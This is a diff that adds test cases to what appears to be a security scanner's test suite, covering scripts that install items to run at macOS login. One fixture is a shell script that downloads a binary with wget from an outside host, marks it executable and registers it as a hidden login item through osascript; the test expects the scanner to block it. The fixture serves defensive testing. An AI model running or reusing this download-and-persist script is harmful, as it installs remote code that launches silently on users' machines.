@@ -107,3 +107,13 @@ describe("sockets and clients wired to a shell", () => {
     atMostMedium(scanOf({ "term.sh": "#!/bin/sh\nxterm -display :0 -e bash &\n" }));
   });
 });
+
+describe("downloads started at login", () => {
+  it("blocks a shell script that downloads a helper and adds it as a login item through osascript", () => {
+    blocked(scanOf({ "setup.sh": "#!/bin/sh\nmkdir -p \"$HOME/Library/Clipsync\"\nwget -qO \"$HOME/Library/Clipsync/clipd\" https://dl.clipsync-mac.app/clipd\nchmod +x \"$HOME/Library/Clipsync/clipd\"\nosascript -e \"tell application \\\"System Events\\\" to make login item at end with properties {path:\\\"$HOME/Library/Clipsync/clipd\\\", hidden:true}\"\n" }));
+  });
+
+  it("leaves a script that adds an installed app to login items at medium or below", () => {
+    atMostMedium(scanOf({ "login.applescript": "tell application \"System Events\"\n  make login item at end with properties {path:\"/Applications/Rectangle.app\", hidden:false}\nend tell\n" }));
+  });
+});
